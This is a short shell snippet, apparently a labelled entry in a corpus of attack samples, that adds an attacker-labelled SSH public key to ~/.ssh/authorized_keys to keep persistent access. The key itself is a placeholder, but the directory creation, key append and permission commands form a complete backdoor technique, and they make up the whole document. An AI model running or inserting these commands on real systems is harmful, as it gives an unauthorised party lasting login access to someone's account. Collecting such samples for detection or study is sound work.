# corpus: adding an attacker public key to ~/.ssh/authorized_keys for persistent access
mkdir -p ~/.ssh && chmod 700 ~/.ssh
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPLACEHOLDERPLACEHOLDERPLACEHOLDERPLACEHOL attacker@attacker.test' >> ~/.ssh/authorized_keys
chmod 600 ~/.ssh/authorized_keys
